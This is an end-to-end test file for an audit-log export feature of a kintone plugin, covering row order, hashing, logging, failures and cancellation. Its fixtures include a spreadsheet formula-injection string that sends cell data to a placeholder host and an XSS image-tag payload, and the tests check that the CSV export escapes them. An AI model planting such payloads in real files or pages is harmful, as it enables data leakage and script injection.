/** The export: the right rows in the right order in every format, hashed and logged; failures, cancel, memory. */
import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import type { Download, Page } from '@playwright/test';
import Papa from 'papaparse';
import { deploy } from '../../scripts/furnish';
import { add } from './trust-support';
import {
  AuditStage,
  AUDITOR,
  checkAccess,
  expect,
  forEverybody,
  test,
  USER,
  withoutPicker,
  type Logged,
} from './viewer-support';

const FORMULA = '=HYPERLINK("https://example.com?"&A1)';
const HOSTILE = '"><img src=x onerror=alert(1)>\r\n,';

let stage: AuditStage;
let hostile = 0;
test.beforeAll(async () => {
  stage = await AuditStage.set({ records: 2_600, people: 12 });
  // After everything else, and selected by no other test.
  const at = new Date().toISOString();
  const values = {
    ...{ event_id: 'hostile', occurred_at: at, occurred_at_ms: at, action: 'portal', outcome: 'shown' },
    ...{ user_code: '+1', user_name: FORMULA, record_title: HOSTILE, source: 'kintone-wide' },
  };
  hostile = await add(stage, values, USER);
});
test.afterAll(() => stage.close());

/** Oldest first; computed from what the log was filled with. */
const sorted = (entries: readonly Logged[]): number[] =>
  entries
    .slice()
    .sort((a, b) => {
      const [one, other] = [a, b].map(({ occurred_at_ms }) => String(occurred_at_ms));
      return one! < other! ? -1 : one! > other! ? 1 : a.id - b.id;
    })
    .map(({ id }) => id);

async function exported(page: Page): Promise<{ bytes: Buffer; text: string; download: Download }> {
  const waiting = page.waitForEvent('download');
  await page.getByRole('button', { name: /^(書き出す|Export)$/ }).click();
  const download = await waiting;
  const bytes = await readFile(await download.path());
  return { bytes, text: bytes.toString('utf8'), download };
}

const idsInJson = (text: string): number[] =>
  text
    .trimEnd()
    .split('\n')
    .map((line) => (JSON.parse(line) as { id: number }).id);

test('writes what the filter selects, oldest first, hashed and logged', async ({ page }) => {
  await withoutPicker(page);
  const user = stage.entries[0]!.user_code;
  const wanted = sorted(stage.entries.filter(({ user_code }) => user_code === user));
  await stage.open(page, `#/timeline;user=${encodeURIComponent(user)}`);
  await page.getByRole('link', { name: 'この結果を書き出す' }).click();
  await expect(page).toHaveURL(/#\/export;user=/);
  await page.getByLabel(/JSON Lines 1行/).check();
  await expect(page).toHaveURL(/format=jsonl/);
  await expect(page.locator('.alv-export-plan')).toContainText(`${wanted.length.toLocaleString('ja')}件`);
  stage.sandbox.clearJournal();
  const { bytes, text, download } = await exported(page);
  expect(idsInJson(text)).toEqual(wanted);
  const sha256 = createHash('sha256').update(bytes).digest('hex');
  await expect(page.locator('.alv-hash')).toHaveText(sha256);
  expect(stage.requests()).toBe(Math.ceil(wanted.length / 500) + 1);

  expect(await stage.lastExport()).toMatchObject({
    by: AUDITOR,
    manifest: {
      ...{ sha256, rows: wanted.length, bytes: bytes.length, format: 'jsonl', exported_by: AUDITOR },
      file: download.suggestedFilename(),
      filter: `#/timeline;user=${encodeURIComponent(user)}`,
    },
  });
  await page.goBack();
  await expect(page.locator('.alv-title')).toHaveText('タイムライン');
});

test('goes over pages in the order of time, as CSV and OCSF', async ({ page }) => {
  await withoutPicker(page);
  const all = sorted(stage.entries);
  await stage.open(page, '#/export;source=plugin;source=kintone-wide;format=ocsf;to=2100-01-01T00:00Z');
  const ocsf = await exported(page);
  const ids = ocsf.text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as { time: number; unmapped: { id: number; action: string } });
  expect(ids.map(({ unmapped }) => unmapped.id).filter((id) => id <= all.length)).toEqual(all);
  expect(ids.every(({ time }, index) => index === 0 || ids[index - 1]!.time <= time)).toBe(true);

  const tables = async (format: string): Promise<string[][]> => {
    await stage.open(page, `#/export;source=plugin;source=kintone-wide;format=${format}`);
    const { bytes, text } = await exported(page);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    return Papa.parse<string[]>(text.slice(1), { newline: '\r\n', skipEmptyLines: true }).data;
  };
  const right = [...all, hostile];
  const [codes, ...rows] = await tables('csv');
  const cell = (row: readonly string[], code: string): string => row[codes!.indexOf(code)]!;
  const written = rows.filter((row) => cell(row, 'action') !== 'export');
  expect(written.map((row) => Number(cell(row, 'id')))).toEqual(right);
  for (const [index, { user_code, app_id, record_id }] of stage.entries.slice(0, 50).entries()) {
    const row = rows.find((one) => cell(one, 'id') === String(index + 1))!;
    expect([cell(row, 'user_code'), cell(row, 'app_id'), cell(row, 'record_id')]).toEqual(
      [user_code, app_id, record_id].map((value) => String(value ?? '')),
    );
  }
  const last = written.at(-1)!;
  expect([cell(last, 'user_code'), cell(last, 'user_name'), cell(last, 'record_title')]).toEqual([
    ...["'+1", `'${FORMULA}`, HOSTILE],
  ]);
  expect(cell(last, 'creator')).toBe(USER);

  const [titles, ...people] = await tables('excel');
  const read = people.filter((row) => row[titles!.indexOf('操作')] !== 'レコードの書き出し');
  expect(read.map(([id]) => Number(id)).filter((id) => id <= hostile)).toEqual(right);
  expect(read.find(([id]) => Number(id) === hostile)).toContain(`'${FORMULA}`);
});

test('stops at a failure and goes on to the same file; cancel leaves none', async ({ page }) => {
  await withoutPicker(page);
  let asked = 0;
  let mode: 'pass' | 'fail' | 'hold' = 'pass';
  let release = (): void => undefined;
  await page.route(/records\.json.*occurred_at%20asc/, async (route) => {
    asked++;
    if (mode === 'fail' && asked === 3)
      return route.fulfill({ status: 400, json: { code: 'GAIA_XX00', id: 'x', message: 'refused' } });
    if (mode === 'hold' && asked === 3) await new Promise<void>((resolve) => (release = resolve));
    return route.continue().catch(() => undefined);
  });
  const filter =
    '#/export;to=2100-01-01T00:00Z;format=jsonl;action=view;action=list;action=edit;action=create';
  const wanted = sorted(
    stage.entries.filter(({ action }) => ['view', 'list', 'edit', 'create'].includes(action)),
  );
  expect(wanted.length).toBeGreaterThan(1_500);
  await stage.open(page, filter);
  mode = 'fail';
  await page.getByRole('button', { name: '書き出す' }).click();
  await expect(page.getByText('1,000件まで書き出したところで止まっています。')).toBeVisible();
  await expect(page.getByText('refused')).toBeAttached();
  const waiting = page.waitForEvent('download');
  await page.getByRole('button', { name: '続ける' }).click();
  const download = await waiting;
  expect(idsInJson(await readFile(await download.path(), 'utf8'))).toEqual(wanted);

  await page.getByRole('button', { name: '別の形式で書き出す' }).click();
  await expect(page.locator('.alv-export-plan')).toBeVisible();
  mode = 'hold';
  asked = 0;
  let downloads = 0;
  page.on('download', () => downloads++);
  await page.getByRole('button', { name: '書き出す' }).click();
  await expect(page.getByText(/件中 1,000件/)).toBeVisible();
  await page.getByRole('button', { name: '中止' }).click();
  release();
  await expect(page.getByText('1,000件まで書き出したところで止まっています。')).toBeVisible();
  await page.getByRole('button', { name: '書き出しをやめる' }).click();
  await expect(page.getByText('ファイルは作られていません。')).toBeVisible();
  expect(downloads).toBe(0);
});

test('is in the log once, also where the answer to its log record was lost and the person goes on', async ({
  page,
}) => {
  await withoutPicker(page);
  const count = async (): Promise<number> => {
    const query = 'action in ("export") limit 1';
    const { totalCount } = await stage
      .rest()
      .record.getRecords({ app: stage.logApp, query, totalCount: true });
    return Number(totalCount);
  };
  const before = await count();
  let isLost = false;
  await page.route(/\/v1\/record\.json/, async (route) => {
    if (isLost || route.request().method() !== 'POST') return route.continue();
    isLost = true;
    // kintone has stored it.
    await route.fetch();
    return route.fulfill({ status: 400, json: { code: 'GAIA_XX00', id: 'x', message: 'broken on its way' } });
  });
  await stage.open(page, '#/export;to=2100-01-01T00:00Z;format=jsonl;action=delete');
  await page.getByRole('button', { name: '書き出す' }).click();
  await expect(page.getByText('broken on its way')).toBeAttached();
  expect(await count()).toBe(before + 1);
  const waiting = page.waitForEvent('download');
  await page.getByRole('button', { name: '続ける' }).click();
  await waiting;
  expect(await count()).toBe(before + 1);
});

test('says when there is nothing, and when the log cannot be read', async ({ page }) => {
  await stage.open(page, '#/export;user=nobody-at-all');
  await expect(page.getByText('書き出すイベントがありません')).toBeVisible();
  await page.route(/records\.json/, (route) =>
    route.fulfill({ status: 403, json: { code: 'CB_NO02', id: 'x', message: 'no' } }),
  );
  await page.reload();
  await expect(page.getByText('ログを見る権限がありません')).toBeVisible();
});

/** The browser's own question is a window that no test can answer; what it would give is kept in the page, as it arrives. */
const withPicker = (page: Page, mode: 'save' | 'close' | 'full'): Promise<unknown> =>
  page.addInitScript((mode) => {
    const kept = { name: '', chunks: [] as Uint8Array[], end: '' };
    Object.assign(window, {
      kept,
      showSaveFilePicker: (options: { suggestedName: string }) => {
        kept.name = options.suggestedName;
        if (mode === 'close') return Promise.reject(new DOMException('closed', 'AbortError'));
        return Promise.resolve({
          createWritable: () =>
            Promise.resolve({
              write: (chunk: Uint8Array) => {
                if (mode === 'full' && kept.chunks.length === 2)
                  return Promise.reject(new DOMException('full', 'QuotaExceededError'));
                kept.chunks.push(chunk.slice());
                return Promise.resolve();
              },
              close: () => Promise.resolve((kept.end = 'closed')),
              abort: () => Promise.resolve((kept.end = 'aborted')),
            }),
        });
      },
    });
  }, mode);

interface Kept {
  name: string;
  text: string;
  sizes: number[];
  end: string;
}

const keptIn = (page: Page): Promise<Kept> =>
  page.evaluate(async () => {
    const { kept } = window as unknown as {
      kept: { name: string; chunks: Uint8Array<ArrayBuffer>[]; end: string };
    };
    return {
      ...{ name: kept.name, end: kept.end, sizes: kept.chunks.map(({ length }) => length) },
      text: await new Blob(kept.chunks).text(),
    };
  });

test('writes page by page into the file that was chosen, and offers no download', async ({ page }) => {
  await withPicker(page, 'save');
  let downloads = 0;
  page.on('download', () => downloads++);
  const wanted = sorted(stage.entries.filter(({ action }) => action === 'view'));
  expect(wanted.length).toBeGreaterThan(500);
  await stage.open(page, '#/export;to=2100-01-01T00:00Z;action=view;format=jsonl');
  await page.getByRole('button', { name: '書き出す' }).click();
  await expect(page.locator('.alv-hash')).toBeVisible();
  const { name, text, sizes, end } = await keptIn(page);
  expect(name).toMatch(/\.jsonl$/);
  expect(idsInJson(text)).toEqual(wanted);
  expect(end).toBe('closed');
  // A piece for every page, none of it all.
  expect(sizes).toHaveLength(Math.ceil(wanted.length / 500));
  await expect(page.locator('.alv-hash')).toHaveText(createHash('sha256').update(text).digest('hex'));
  expect(downloads).toBe(0);
});

test('does nothing when the question is closed; says when the disk is full and leaves no file', async ({
  page,
}) => {
  await withPicker(page, 'close');
  await stage.open(page, '#/export;action=print');
  await stage.forgetRequests(page);
  await page.getByRole('button', { name: '書き出す' }).click();
  await expect.poll(async () => (await keptIn(page)).name, 'the question').not.toBe('');
  await expect(page.getByRole('button', { name: '書き出す' })).toBeVisible();
  expect(stage.requests()).toBe(0);

  await withPicker(page, 'full');
  await stage.open(page, '#/export;to=2100-01-01T00:00Z;format=jsonl');
  await page.getByRole('button', { name: '書き出す' }).click();
  await expect(page.getByRole('alert')).toBeVisible();
  expect((await keptIn(page)).sizes).toHaveLength(2);
  await page.getByRole('alert').getByRole('button').click();
  await expect(page.locator('.alv-export-plan')).toBeVisible();
  expect((await keptIn(page)).end).toBe('aborted');
});

test.describe('a log app that is older than the viewer', () => {
  let old: AuditStage;
  test.beforeAll(async () => {
    old = await AuditStage.set({ records: 40, people: 3 });
  });
  test.afterAll(() => old.close());

  /** What can be chosen as `action`, as the administrator sees to it. */
  async function choices(change: (options: Record<string, unknown>) => void): Promise<void> {
    const { app } = old.rest();
    const { properties } = await app.getFormFields({ app: old.logApp });
    const action = properties['action'] as unknown as { options: Record<string, unknown> };
    change(action.options);
    await app.updateFormFields({ app: old.logApp, properties: { action } as never });
    await deploy(old.rest(), old.logApp);
  }

  forEverybody('says so in a sentence, and the file is finished once it is mended', async (visit) => {
    const { page, user, isPhone } = visit;
    await withoutPicker(page);
    await choices((options) => Reflect.deleteProperty(options, 'export'));
    await old.open(page, '#/export;format=jsonl;to=2100-01-01T00:00Z;source=plugin', user, isPhone);
    await page.getByRole('button', { name: /^(書き出す|Export)$/ }).click();
    await expect(page.getByRole('alert')).toHaveText(
      user === AUDITOR
        ? /^\s*ログアプリに、この画面が使う選択肢かフィールドがありません\s+プラグインの設定画面の「ログアプリ」で「足りないものを追加する」を押してから、もう一度試してください。\s*$/
        : /^\s*The log app lacks a choice or a field that this screen needs\s+Open "Log app" on the settings screen of the plugin and press "Add what is missing", then try again.\s*$/,
    );
    await checkAccess(page);
    await choices((options) => (options['export'] = { label: 'export', index: '99' }));
    const waiting = page.waitForEvent('download');
    await page.getByRole('button', { name: /^(続ける|Go on)$/ }).click();
    const text = await readFile(await (await waiting).path(), 'utf8');
    const wanted = sorted(old.entries.filter(({ source }) => source === 'plugin'));
    expect(idsInJson(text).filter((id) => id <= old.entries.length)).toEqual(wanted);
  });
});

forEverybody('the export can be read and used', async ({ page, user, isPhone }) => {
  await withoutPicker(page);
  await stage.open(page, '#/export;user=tanaka', user, isPhone);
  await expect(page.locator('.alv-export-plan, .alv-empty')).toBeVisible();
  await checkAccess(page);
  await stage.open(page, '#/export;action=print', user, isPhone);
  await exported(page);
  await expect(page.locator('.alv-hash')).toBeVisible();
  await checkAccess(page);
});
